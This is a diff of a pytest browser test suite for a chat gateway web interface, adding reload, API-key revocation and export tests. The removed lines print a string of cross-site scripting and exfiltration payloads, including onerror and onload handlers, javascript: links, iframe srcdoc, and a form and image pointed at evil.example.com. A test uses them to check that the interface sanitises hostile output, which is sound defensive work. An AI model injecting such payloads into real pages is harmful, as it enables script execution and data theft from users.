@@ -8,9 +8,10 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from support.api_keys import create_key, open_keys
 from support.browser import needs_browser
 from support.live import TOKEN, live_gateway
-from support.page_stage import IS_OVER, PARAGRAPHS, Stage, answers, ask, config_of, open_stage
+from support.page_stage import HOSTILE, IS_OVER, PARAGRAPHS, Stage, answers, ask, config_of, open_stage
 from support.polling import until
 from support.upstream import Upstream
 
@@ -70,6 +71,29 @@ def test_stopped_answer_keeps_what_was_said(stage: Stage) -> None:
     assert not page.evaluate("document.querySelector('[role=alert]')")
 
 
+def test_answer_goes_on_when_the_page_is_loaded_again(stage: Stage) -> None:
+    page = stage.sign_in()
+    page.fill("#message", "hold tight")
+    page.press("Enter")
+    page.wait("document.querySelector('.answer .markdown')?.innerText.trim() == 'hold tight'")
+    page.open(page.evaluate("location.href"))
+    page.wait("document.querySelector('.answer[aria-busy=true] .markdown')?.innerText.trim() == 'hold tight'")
+    page.click("[aria-label=Stop]")
+    page.wait("document.querySelector('.user .bubble')?.innerText == 'hold tight'")
+    assert answers(page) == ["hold tight"]
+
+
+def test_revoked_key_leads_back_to_signing_in(stage: Stage) -> None:
+    text, key_id = create_key(stage.gateway.state_dir)
+    page = stage.sign_in(text)
+    with open_keys(stage.gateway.state_dir) as keys:
+        keys.revoke(key_id)
+    page.wait_for_text("No live updates")
+    page.evaluate("location.hash = '#/sessions'")
+    page.wait_for_text("invalid_api_key")
+    assert page.evaluate("sessionStorage.length") == 0
+
+
 def test_reasoning_and_tools_are_folded(stage: Stage) -> None:
     page = stage.sign_in()
     ask(page, "think hard")
@@ -80,16 +104,12 @@ def test_reasoning_and_tools_are_folded(stage: Stage) -> None:
     page.wait_for_text("does not exist in the workspace")
 
 
-HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
-<a href="javascript:document.title='owned'" onclick="document.title='owned'">press</a> [too](javascript:alert(1))
-<svg onload="document.title='owned'"></svg> <iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
-<form action="https://evil.example.com"><input name=secret></form> <style>body{display:none}</style>
-![leak](https://evil.example.com/leak?q=1) <div style="position:fixed">over</div> `<b>code</b>`"""
-
-
-def test_hostile_answer_and_title_do_nothing(stage: Stage) -> None:
+def test_hostile_answer_tool_and_title_do_nothing(stage: Stage) -> None:
     page = stage.sign_in()
-    ask(page, f"say {HOSTILE}")
+    ask(page, f"attack {HOSTILE}")
+    page.wait("document.querySelectorAll('.answer details').length == 2")
+    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+    page.wait_for_text('"<img src=x onerror')
     for selector in (
         "script:not([src])",
         "iframe",
@@ -108,7 +128,12 @@ def test_hostile_answer_and_title_do_nothing(stage: Stage) -> None:
     page.evaluate("document.querySelectorAll('.markdown a').forEach((one) => one.click())")
     page.evaluate("location.hash = '#/sessions'")
     page.wait("document.querySelector('.list')?.innerText.includes('<img src=x')")
-    assert page.evaluate("document.title") == "Sessions · OpenClaw Gateway"
+    page.evaluate("location.hash = '#/runs'")
+    page.click(".list a")
+    page.wait("document.querySelector('.output')")
+    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+    assert page.evaluate("document.querySelectorAll('main :is(img, script, iframe, style, form)').length") == 0
+    assert page.evaluate("document.title") == "Runs · OpenClaw Gateway"
     assert all("inline style" in problem for problem in page.problems)  # of the markup, while it was taken apart
     page.problems.clear()
     assert (
@@ -194,9 +219,11 @@ def test_session_is_found_exported_and_deleted(stage: Stage, tmp_path: Path) -> 
     page.evaluate("location.hash = '#/sessions'")
     page.fill("[type=search]", "passwd of")
     page.wait("document.querySelectorAll('.list li').length == 1")
-    page.click("[aria-label^='Export']")
-    until(lambda: len([*tmp_path.glob("*.json"), *tmp_path.glob("*.md")]) == 2)
-    assert "cucumber" in next(tmp_path.glob("*.md")).read_text()
+    for kind, pattern in ((2, "*.md"), (3, "*.json")):
+        page.click("[aria-label^='Export']")
+        page.click(f"dialog button:nth-child({kind})")
+        until(lambda pattern=pattern: [*tmp_path.glob(pattern)])
+        assert "cucumber" in next(tmp_path.glob(pattern)).read_text()
     page.click("[aria-label^='Delete']")
     page.click("dialog button.danger")
     page.wait_for_text("Nothing found")
